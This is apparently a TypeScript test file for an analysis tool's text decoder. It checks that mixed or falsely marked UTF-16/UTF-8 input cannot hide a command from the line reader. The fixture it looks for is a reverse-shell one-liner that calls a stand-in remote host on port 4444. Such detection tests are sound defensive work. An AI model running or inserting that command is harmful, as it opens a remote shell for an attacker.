/** UTF-16 that is not all of it: a mark that lies, and text that another program went on with, hide no command. */
import { expect, test } from 'vitest';
import { createLineReader, decodeText } from '../../../analysis/readers/index.ts';
import { streamOf } from './packed.ts';

const EVIL = 'bash -i >& /dev/tcp/198.51.100.7/4444 0>&1';
const wide = (text: string): Buffer => Buffer.from(text, 'utf16le');
const MARK = Buffer.from([0xff, 0xfe]);

async function linesOf(bytes: Buffer, piece: number): Promise<string[]> {
  const lines = [];
  for await (const batch of createLineReader(streamOf(bytes, piece)).lines)
    lines.push(...batch.map(({ text }) => text));
  return lines;
}

test.each<[string, Buffer]>([
  ['a mark of UTF-16 before UTF-8', Buffer.concat([MARK, Buffer.from(`ls\n${EVIL}\n`)])],
  ['the other mark', Buffer.concat([MARK.toReversed(), Buffer.from(`ls\n${EVIL}\n`)])],
  ['UTF-16 and then UTF-8', Buffer.concat([MARK, wide('ls\r\n'.repeat(80)), Buffer.from(`${EVIL}\n`)])],
  ['UTF-16, a byte, and UTF-16 again', Buffer.concat([MARK, wide('ls\r\n'), Buffer.from('\n'), wide(`${EVIL}\n`)])],
  ['zeros without a mark, and then UTF-8', Buffer.concat([wide('a\n'.repeat(200)), Buffer.from(`${EVIL}\n`)])],
])('%s is read', async (_what, bytes) => {
  expect(decodeText(Buffer.from(bytes)).split(/\r?\n/)).toContain(EVIL);
  for (const piece of [64, 65_536]) expect(await linesOf(Buffer.from(bytes), piece)).toContain(EVIL);
});

test('a few plain letters behind a mark are no two characters of another script', () => {
  expect(decodeText(Buffer.concat([MARK, Buffer.from('sh ~/.x\n')]))).toBe('sh ~/.x\n');
});

test.each([
  'dir\r\nGet-Process äöü €\r\n',
  '今日はいい天気です。明日も晴れるでしょう。\n',
  '\u6161\u7061\u6f70',
  '我们的团队在上海工作\n',
])('what is UTF-16 throughout stays it: %j', async (text) => {
  for (const bytes of [wide(`\ufeff${text}`), wide(`\ufeff${text}`).swap16()]) {
    expect(decodeText(bytes)).toBe(text);
    expect((await linesOf(bytes, 3)).join('\n').trim()).toBe(text.replaceAll('\r\n', '\n').trim());
  }
});
